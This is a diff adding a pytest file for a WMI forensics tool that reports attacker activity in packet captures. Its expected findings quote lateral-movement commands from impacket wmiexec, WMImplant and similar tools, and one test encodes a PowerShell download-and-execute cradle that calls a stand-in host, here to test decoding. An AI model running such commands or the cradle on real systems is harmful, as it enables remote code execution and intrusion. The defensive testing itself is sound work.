@@ -1,0 +1,280 @@
+"""The forensics report: for every real capture and every sample, the findings an analyst
+writes by hand (technique, hosts, principal, decisive value, frames, observed/inferred),
+and the report gives exactly those: none missed, none invented."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+import tshark_util
+from tshark_util import CAPTURES, PCAPS
+from wmiscope.cli import main
+
+SECRETS = tshark_util.sample_secrets()
+
+
+def report(capsys, *argv) -> dict:
+    assert main(["report", "--format", "json", *map(str, argv)]) == 0
+    return json.loads(capsys.readouterr().out)
+
+
+# capture -> findings in time order:
+#   (rule, techniques, basis, source ip, destination ip, principal (substring), decisive value (substring
+#    of the title or command line), evidence frames that must be among the finding's frames)
+WMIEXEC = ("impacket wmiexec", "10.1.1.2", "10.1.1.5", "administrator")
+EXPECTED = {
+    CAPTURES / "impacket_wmiexec.pcapng": [
+        ("namespace-login", ["T1047"], "observed", "10.1.1.2", "10.1.1.5", "administrator", "//./root/cimv2",
+         [32, 33]),
+        ("process-create", ["T1047"], "observed", *WMIEXEC[1:], r"cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$",
+         [69, 71]),
+        ("process-create", ["T1047"], "observed", *WMIEXEC[1:], r"cmd.exe /Q /c cd  1> \\127.0.0.1\ADMIN$",
+         [91, 93]),
+        ("process-create", ["T1047"], "observed", *WMIEXEC[1:],
+         r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1683291962.56 2>&1", [115, 117]),
+    ],
+    CAPTURES / "invoke-wmiexec.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.62", "192.168.1.46", "chewbacca",
+         r"\\Chip_Douglas-PC\root\cimv2", [80]),
+        ("process-create", ["T1047"], "observed", "192.168.1.62", "192.168.1.46", "chewbacca", "ipconfig",
+         [129, 131]),
+    ],
+    CAPTURES / "wmiexecpro-create-start-service.pcap": [
+        ("namespace-login", ["T1047"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca", "//./root/cimv2",
+         [27, 162]),
+        ("service-create", ["T1543.003"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca",
+         r"C:\windows\system32\calc.exe", [114, 117]),
+        ("service-startservice", ["T1569.002"], "observed", "10.0.0.217", "10.0.0.2", "chewbacca",
+         "Service test started", [254, 257]),
+    ],
+    CAPTURES / "wmimplant.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         r"\\192.168.1.195\root\cimv2 (x3)", [190, 233, 276]),
+        ("environment-staging", ["T1074.001", "T1059.001"], "observed", "192.168.1.46", "192.168.1.195",
+         "host/SnickleFritz", "Environment variable puFHs written", [203, 215]),
+        ("sealed-method-exec", ["T1047"], "inferred", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         "Win32_Process.Create-shaped", [253, 261, 263]),
+        ("environment-staging", ["T1074.001"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         "SELECT * FROM Win32_Environment WHERE NAME='puFHs'", [284]),
+        ("cleanup", ["T1070"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         'Win32_Environment.Name="puFHs"', [315]),
+        ("namespace-login", ["T1047"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         r"\\192.168.1.195\root\default (x3)", [335, 409, 726]),
+        ("registry-read", ["T1012"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows [IhnRg]", [375, 376]),
+        ("registry-read", ["T1012", "T1041"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         "867596 characters: data channel", [447, 668]),
+        ("registry-write", ["T1112"], "observed", "192.168.1.46", "192.168.1.195", "host/SnickleFritz",
+         "Registry deleted through StdRegProv.DeleteValue", [761, 762]),
+    ],
+    CAPTURES / "LM_WMI_ProcessCallCreate.pcapng": [
+        ("namespace-login", ["T1047"], "observed", "172.16.66.1", "172.16.66.36", r"3B\lgreen",
+         r"\\172.16.66.36\ROOT\CIMV2", [45, 46]),
+        ("sealed-method-exec", ["T1047"], "inferred", "172.16.66.1", "172.16.66.36", r"3B\lgreen",
+         "Win32_Process.Create-shaped", [52, 120, 126, 128]),
+    ],
+    CAPTURES / "covenant_sharpwmi_dcerpc_wmi_execquery_execmethod.cap": [
+        ("namespace-login", ["T1047"], "observed", "172.18.39.5", "172.18.39.6", "host/WORKSTATION6",
+         r"\\WORKSTATION6\root\cimv2", [91]),
+        ("sealed-method-exec", ["T1047"], "inferred", "172.18.39.5", "172.18.39.6", "host/WORKSTATION6",
+         "Likely remote method execution", [129, 138, 141]),
+    ],
+    CAPTURES / "dcom_mmc20_application.pcapng": [],
+    CAPTURES / "impacket_dcomexec.pcapng": [],
+    PCAPS / "wmi-process-create.pcap": [
+        ("namespace-login", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", "", r"\\SRV-FILES01\root\cimv2",
+         [6]),
+        ("process-create", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", "",
+         r"cmd.exe /c whoami > C:\Windows\Temp\o.txt", [14, 15]),
+    ],
+    PCAPS / "wmi-process-create-ntlm-signed.pcap": [
+        ("namespace-login", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
+         r"\\SRV-FILES01\root\cimv2", [7]),
+        ("process-create", ["T1047"], "observed", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
+         r"cmd.exe /c whoami > C:\Windows\Temp\o.txt", [15, 16]),
+    ],
+    PCAPS / "wmi-process-create-ntlm-sealed.pcap": [
+        ("namespace-login", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
+         "namespace sealed", [7]),
+        ("sealed-method-exec", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", r"WMILAB\analyst",
+         "Likely remote method execution on a sealed namespace", [11, 15, 16]),
+    ],
+    PCAPS / "wmi-process-create-kerberos-sealed.pcap": [
+        ("namespace-login", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", "host/srv-files01",
+         "namespace sealed", [8]),
+        ("sealed-method-exec", ["T1047"], "inferred", "10.20.30.40", "10.20.30.50", "host/srv-files01",
+         "Likely remote method execution", [12, 16, 17]),
+    ],
+    PCAPS / "wmi-persistence-subscription.pcap": [
+        ("namespace-login", ["T1047"], "observed", "10.8.0.77", "10.8.0.2", "", r"\\DC01\root\subscription",
+         [26]),
+        ("event-subscription", ["T1546.003"], "observed", "10.8.0.77", "10.8.0.2", "",
+         r"SysUpdateFilter -> SysUpdateConsumer runs cmd.exe /c echo wmi-persistence-test", [32, 36, 40]),
+    ],
+    PCAPS / "wmi-semisync-execmethod.pcap": [
+        ("namespace-login", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "", r"\\FILESRV01\root\cimv2",
+         [26]),
+        ("process-create", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "",
+         r"notepad.exe C:\Users\Public\readme.txt", [30, 36, 37]),
+    ],
+    PCAPS / "wmi-async-query-callbacks.pcap": [
+        ("namespace-login", ["T1047"], "observed", "10.40.8.21", "10.40.8.5", "", r"\\SRV-DC02\root\cimv2", [26]),
+        ("recon-query", ["T1057"], "observed", "10.40.8.21", "10.40.8.5", "",
+         "SELECT * FROM Win32_Process WHERE Name LIKE 'power%'", [30, 47, 52]),
+    ],
+    PCAPS / "wmi-refresher.pcap": [
+        ("namespace-login", ["T1047"], "observed", "172.20.4.31", "172.20.4.10", "", r"\\FILESRV01\root\cimv2",
+         [26]),
+    ],
+    PCAPS / "spec-4.1.1-initialization.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"\\sai-nav009-2\root\cimv2",
+         [26]),
+    ],
+    PCAPS / "spec-4.2.3.1-sync-execquery-execmethod.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "root\\cimv2", [26]),
+        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "",
+         "select * from win32_process where Name='calc.exe'", [30]),
+        ("method-exec", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "",
+         'Win32_Process.Terminate on Handle="724"', [50, 51]),
+        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [52]),
+    ],
+    PCAPS / "spec-4.3.3.1-semisync-execquery-execmethod.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "root\\cimv2", [26]),
+        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [30]),
+        ("method-exec", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "",
+         'Win32_Process.Terminate on Handle="2680"', [50, 56, 57]),
+        ("recon-query", ["T1057"], "observed", "192.168.1.23", "192.168.1.24", "", "win32_process", [58]),
+    ],
+    PCAPS / "spec-4.2.3.2-sync-put-delete-enum.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"root\cimv2\MyTest", [26]),
+        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=15)", [30]),
+        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=20)", [44]),
+        ("instance-delete", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI.x=10", [46]),
+    ],
+    PCAPS / "spec-4.3.3.2-semisync-put-delete-enum.pcap": [
+        ("namespace-login", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", r"root\cimv2\MyTest", [26]),
+        ("instance-write", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI (x=10, y=15)",
+         [30, 34]),
+        ("instance-delete", ["T1047"], "observed", "192.168.1.23", "192.168.1.24", "", "TestWMI.x=10", [50, 52]),
+    ],
+}
+
+
+def _check(findings: list[dict], expected: list[tuple]) -> None:
+    got = [(f["rule"], [t["id"] for t in f["techniques"]], f["basis"]) for f in findings]
+    assert got == [(e[0], e[1], e[2]) for e in expected]
+    for f, (_, _, _, src, dst, who, value, frames) in zip(findings, expected):
+        assert (f["source"]["ip"], f["destination"]["ip"]) == (src, dst)
+        assert who in ((f["principal"] or {}).get("text") or ""), f
+        assert value in f["title"] + " " + (f["command_line"] or ""), f["title"]
+        assert set(frames) <= set(f["frames"]), (f["frames"], frames)
+        assert f["first_time"] <= f["last_time"]
+        assert f["reasons"] and 0 < f["confidence"] <= 1
+        assert (f["confidence"] == 1.0) == (f["basis"] == "observed")
+
+
+@pytest.mark.parametrize("path", list(EXPECTED), ids=lambda p: p.name)
+def test_findings_are_exactly_what_an_analyst_writes(capsys, path):
+    r = report(capsys, path)
+    _check(r["findings"], EXPECTED[path])
+    assert [f["id"] for f in r["findings"]] == [f"F{i:03d}" for i in range(1, len(r["findings"]) + 1)]
+
+
+def test_decisive_values_of_the_real_captures(capsys):
+    r = report(capsys, CAPTURES / "impacket_wmiexec.pcapng")
+    f = r["findings"][3]
+    assert f["tool"]["name"] == "impacket wmiexec" and "ADMIN$" in f["tool"]["evidence"]
+    assert f["wmi"]["process_id"] == 2692 and f["outcome"] == "success"
+    assert f["destination"]["names"] == ["WIN-KCBVCO95HFV"]
+    assert f["namespace"] == "//./root/cimv2" and f["operation"] == "op-5"
+
+    r = report(capsys, CAPTURES / "invoke-wmiexec.pcap")
+    f = r["findings"][1]
+    assert f["tool"]["name"] == "Invoke-WMIExec" and f["client_machine"] == "SNICKLEFRITZ" and f["client_pid"] == 4888
+    assert f["source"]["names"] == ["SNICKLEFRITZ"]
+
+    r = report(capsys, CAPTURES / "wmiexecpro-create-start-service.pcap")
+    create, start = r["findings"][1:]
+    assert create["wmi"]["service"] == {"name": "test", "display_name": "For test",
+                                        "path": r"C:\windows\system32\calc.exe", "start_mode": "Automatic",
+                                        "start_name": "LocalSystem"}
+    # calc.exe is no service: StartService answers 7, the request timed out
+    assert (start["outcome"], start["wmi"]["return_value"], start["wmi"]["return_text"]) == (
+        "failure", 7, "Service Request Timeout")
+
+    r = report(capsys, CAPTURES / "wmimplant.pcap")
+    staging, sealed = r["findings"][1:3]
+    assert staging["decoded_command"].startswith("$fct = Get-Content -Encoding byte -ReadCount 0 -Path "
+                                                 "'C:\\shimcache.reg'")
+    assert staging["wmi"]["result_path"] == r'Win32_Environment.Name="puFHs",UserName="picklesworth\\administrator"'
+    assert sealed["confidence"] == 0.9 and any("20664 bytes" in x for x in sealed["reasons"])
+    read = r["findings"][7]
+    assert read["registry"]["data_size"] == 867596 and read["outcome"] == "success"
+
+    r = report(capsys, CAPTURES / "LM_WMI_ProcessCallCreate.pcapng")
+    login, sealed = r["findings"]
+    assert login["client_machine"] == "02694W-WIN10" and login["client_pid"] == 3836
+    assert "01566s-win16-ir" in login["destination"]["names"]
+    assert sealed["namespace"] == r"\\172.16.66.36\ROOT\CIMV2" and sealed["wmi"]["reply_stub"] == 1160
+    (conn,) = r["sealed_connections"]
+    assert conn["principal"] == r"3B\lgreen" and "NT hash of 3B\\lgreen" in conn["key"]
+    assert conn["sequence"] == ["GetObject (148/79068 bytes)", "ExecMethod (5360/1160 bytes)"]
+
+
+def test_covenant_sealed_connection_lists_its_calls_and_the_key(capsys):
+    r = report(capsys, CAPTURES / "covenant_sharpwmi_dcerpc_wmi_execquery_execmethod.cap")
+    (conn,) = r["sealed_connections"]
+    assert conn["login"]["client_machine"] == "WORKSTATION5" and conn["login"]["client_pid"] == 7240
+    assert conn["sequence"][0] == "ExecQuery (248/192 bytes)" and "ExecMethod (1016/424 bytes)" in conn["sequence"]
+    assert "service host/WORKSTATION6.theshire.local@THESHIRE.LOCAL" in conn["key"]
+    assert r["summary"]["errors"] == 1      # the file ends inside a record header: counted, report still made
+
+
+def test_sealed_samples_with_their_keys_are_observed(capsys):
+    creds = SECRETS["wmi-sealed-samples.credentials"]
+    keytab = SECRETS["wmi-process-create-kerberos.keytab"]
+    for name in ("ntlm", "kerberos"):
+        r = report(capsys, PCAPS / f"wmi-process-create-{name}-sealed.pcap", "--credentials", creds,
+                   "--keytab", keytab)
+        assert [(f["rule"], f["basis"]) for f in r["findings"]] == [("namespace-login", "observed"),
+                                                                     ("process-create", "observed")]
+        assert r["findings"][1]["command_line"] == r"cmd.exe /c whoami > C:\Windows\Temp\o.txt"
+        assert "decrypted with the analyst's credentials" in r["findings"][1]["reasons"]
+        assert r["sealed_connections"][0]["opened"] is True
+
+
+def test_several_captures_make_one_report(capsys):
+    r = report(capsys, CAPTURES / "impacket_wmiexec.pcapng", CAPTURES / "invoke-wmiexec.pcap")
+    assert len(r["captures"]) == 2 and len(r["findings"]) == 6
+    times = [f["first_time"] for f in r["findings"]]
+    assert times == sorted(times)
+    assert {h["ip"] for h in r["hosts"]} == {"10.1.1.2", "10.1.1.5", "192.168.1.62", "192.168.1.46"}
+
+
+def test_no_wmi_is_said_plainly(capsys):
+    assert main(["report", str(CAPTURES / "impacket_dcomexec.pcapng")]) == 0
+    out = capsys.readouterr()
+    assert out.out == "" and "no WMI traffic in the capture(s): no findings" in out.err
+    r = report(capsys, CAPTURES / "dcom_mmc20_application.pcapng")
+    assert r["summary"]["no_wmi"] is True and r["findings"] == [] and r["summary"]["errors"] > 0
+
+
+def test_truncated_capture_still_reports(capsys, tmp_path):
+    data = (CAPTURES / "impacket_wmiexec.pcapng").read_bytes()
+    cut = tmp_path / "cut.pcapng"
+    cut.write_bytes(data[: len(data) * 3 // 4])
+    r = report(capsys, cut)
+    assert r["summary"]["errors"] >= 1 and [f["rule"] for f in r["findings"]][:2] == ["namespace-login",
+                                                                                       "process-create"]
+
+
+def test_encoded_powershell_is_decoded():
+    from wmiscope.report.findings import decode_powershell
+    import base64
+
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')"
+    enc = base64.b64encode(script.encode("utf-16-le")).decode()
+    assert decode_powershell(f"powershell.exe -nop -w hidden -enc {enc}") == script
+    assert decode_powershell("cmd.exe /c whoami") is None
